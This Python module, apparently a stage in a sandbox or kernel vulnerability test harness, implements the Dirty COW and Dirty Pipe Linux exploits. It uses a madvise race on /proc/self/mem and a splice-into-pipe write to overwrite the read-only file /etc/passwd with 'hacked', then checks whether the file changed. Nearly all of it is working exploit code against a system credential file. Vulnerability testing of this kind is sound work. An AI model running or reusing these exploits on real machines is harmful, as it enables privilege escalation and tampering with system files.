"""Writes to read-only files through the page cache: its own memory file (dirty cow) and spliced pipes (dirty pipe)."""

import ctypes
import mmap
import os
import threading

from attack_stage import LIBC, must, read

AT = "call"
TARGET = "/etc/passwd"


def dirty_cow():
    with open(TARGET, "rb") as file:
        area = mmap.mmap(file.fileno(), 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
    with open("/proc/self/maps") as file:
        address = int(next(line for line in file if TARGET in line).split("-")[0], 16)
    stop = threading.Event()

    def forget():
        while not stop.is_set():
            LIBC.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)

    thread = threading.Thread(target=forget)
    thread.start()
    try:
        handle = os.open("/proc/self/mem", os.O_RDWR)
        for _ in range(2000):
            os.pwrite(handle, b"hacked", address)
        os.close(handle)
    except OSError:
        pass
    stop.set()
    thread.join()
    area.close()


def dirty_pipe():
    reader, writer = os.pipe()
    try:
        size = 65536
        os.write(writer, b"x" * size)
        os.read(reader, size)
        with open(TARGET, "rb") as file:
            os.splice(file.fileno(), writer, 1, offset_src=0)
        os.write(writer, b"hacked")
    except OSError:
        pass
    finally:
        os.close(reader)
        os.close(writer)


def attack():
    before, found = read(TARGET, 4096), {}
    for name, exploit in {"dirty cow": dirty_cow, "dirty pipe": dirty_pipe}.items():
        exploit()
        found[name] = must(read(TARGET, 4096) != before, "a read-only file changed")
    return found
